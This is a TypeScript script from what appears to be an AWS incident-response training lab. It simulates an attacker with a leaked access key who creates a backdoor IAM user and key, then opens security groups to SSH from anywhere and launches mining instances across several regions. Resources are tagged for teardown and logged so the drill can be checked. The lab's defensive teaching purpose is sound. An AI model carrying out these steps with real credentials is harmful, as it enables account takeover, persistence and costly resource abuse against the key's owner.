#!/usr/bin/env -S node --conditions=@handson/source --import=tsx
// 攻撃者のシミュレーション: someone found the key. With it they do what the notes warn of: an IAM user and an
// access key to come back with, then in several regions a key pair, a security group open to the world
// and instances (for mining). Everything it makes carries the lab's tag so teardown can always find it; the
// drill itself does not use the tags, it finds everything through the event history.
import '../_lib/report-errors.mts';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateKeyPairCommand,
  CreateSecurityGroupCommand,
  DescribeImagesCommand,
  RunInstancesCommand,
} from '@aws-sdk/client-ec2';
import { CreateAccessKeyCommand, CreateUserCommand } from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { ec2TagSpecifications, iamTags } from '@handson/aws';
import { aws, errorCodes } from '@handson/labkit';
import {
  ATTACKER_APP_ID,
  ATTACKER_INSTANCES_PER_REGION,
  ATTACKER_KEY_NAME,
  ATTACKER_REGIONS,
  ATTACKER_SG_NAME,
  ATTACKER_USER_NAME,
  IMAGE_NAME_PATTERN,
  type KeyFile,
  keyFile,
  readJson,
  regionClients,
  SLUG,
  sayRegion,
  vars,
  writePrivate,
} from './lab.mts';

// The SDK adds `app/<id>` to every request's User-Agent: the attacker's calls stand out in the records.
process.env.AWS_SDK_UA_APP_ID = ATTACKER_APP_ID;
vars.need('EXPOSED_ACCESS_KEY_ID', '01-setup.mts');
const leaked = readJson<KeyFile>(keyFile('exposed'));
const stolen = { accessKeyId: leaked.AccessKeyId, secretAccessKey: leaked.SecretAccessKey };
const home = regionClients(ATTACKER_REGIONS[0], stolen);

console.log('# the attacker: whose key is this?');
await aws(new GetCallerIdentityCommand({}), { clients: home, query: 'Arn', output: 'text' });

console.log('# the attacker: a user and a key of its own, to come back after the leaked key is gone');
await aws(new CreateUserCommand({ UserName: ATTACKER_USER_NAME, Tags: iamTags(SLUG) }), {
  clients: home,
  query: 'User.Arn',
  output: 'text',
});
const backdoor = await aws(new CreateAccessKeyCommand({ UserName: ATTACKER_USER_NAME }), {
  clients: home,
  query: 'AccessKey.AccessKeyId',
  output: 'text',
});
const backdoorKey = backdoor.output.AccessKey!;
writePrivate(keyFile('backdoor'), {
  UserName: backdoorKey.UserName,
  AccessKeyId: backdoorKey.AccessKeyId,
  SecretAccessKey: backdoorKey.SecretAccessKey,
});
const truth = {
  users: [ATTACKER_USER_NAME],
  accessKeys: [backdoorKey.AccessKeyId as string],
  regions: {} as Record<string, { instances: string[]; keyPairs: string[]; securityGroups: string[] }>,
};

// The new key works after a few seconds on AWS (IAM is eventually consistent); at once on the sandbox.
const viaBackdoor = regionClients('us-east-1', {
  accessKeyId: backdoorKey.AccessKeyId as string,
  secretAccessKey: backdoorKey.SecretAccessKey as string,
});
for (let attempt = 1; ; attempt++) {
  try {
    await aws(new GetCallerIdentityCommand({}), { clients: viaBackdoor, query: 'Arn', output: 'text' });
    break;
  } catch (error) {
    if (attempt > 12 || !errorCodes(error).includes('InvalidClientTokenId')) throw error;
    await new Promise((resolve) => setTimeout(resolve, 5000));
  }
}

for (const region of ATTACKER_REGIONS) {
  console.log(`# the attacker: mining in ${region}`);
  sayRegion(region);
  const c = regionClients(region, stolen);
  const images = await aws(
    new DescribeImagesCommand({
      Owners: ['amazon'],
      Filters: [{ Name: 'name', Values: [IMAGE_NAME_PATTERN] }],
    }),
    { clients: c, query: 'sort_by(Images, &CreationDate)[-1].ImageId', output: 'text' },
  );
  const imageId = [...(images.output.Images ?? [])]
    .sort((a, b) => String(a.CreationDate).localeCompare(String(b.CreationDate)))
    .at(-1)?.ImageId as string;
  // The private key is the attacker's; it is neither printed nor kept.
  const keyPair = await aws(
    new CreateKeyPairCommand({
      KeyName: ATTACKER_KEY_NAME,
      TagSpecifications: ec2TagSpecifications(SLUG, ['key-pair']),
    }),
    { clients: c, query: 'KeyPairId', output: 'text' },
  );
  const sg = await aws(
    new CreateSecurityGroupCommand({
      GroupName: ATTACKER_SG_NAME,
      Description: 'ssh from anywhere',
      TagSpecifications: ec2TagSpecifications(SLUG, ['security-group']),
    }),
    { clients: c, query: 'GroupId', output: 'text' },
  );
  const groupId = sg.output.GroupId as string;
  await aws(
    new AuthorizeSecurityGroupIngressCommand({
      GroupId: groupId,
      IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
    }),
    { clients: c, query: 'Return', output: 'text' },
  );
  const run = await aws(
    new RunInstancesCommand({
      ImageId: imageId,
      InstanceType: 't3.micro',
      MinCount: ATTACKER_INSTANCES_PER_REGION,
      MaxCount: ATTACKER_INSTANCES_PER_REGION,
      KeyName: ATTACKER_KEY_NAME,
      SecurityGroupIds: [groupId],
      TagSpecifications: ec2TagSpecifications(SLUG, ['instance']),
    }),
    { clients: c, query: 'Instances[].InstanceId', output: 'text' },
  );
  truth.regions[region] = {
    instances: (run.output.Instances ?? []).map((i) => i.InstanceId as string),
    keyPairs: [keyPair.output.KeyName ?? ATTACKER_KEY_NAME],
    securityGroups: [groupId],
  };
}

// What the attacker really did, kept aside so the drill's report can be checked against it.
writePrivate(keyFile('attacker-log'), truth);
console.log(
  `# the attacker made 1 user, 1 access key, and in ${ATTACKER_REGIONS.length} regions ${ATTACKER_INSTANCES_PER_REGION} instances, a key pair and a security group each`,
);
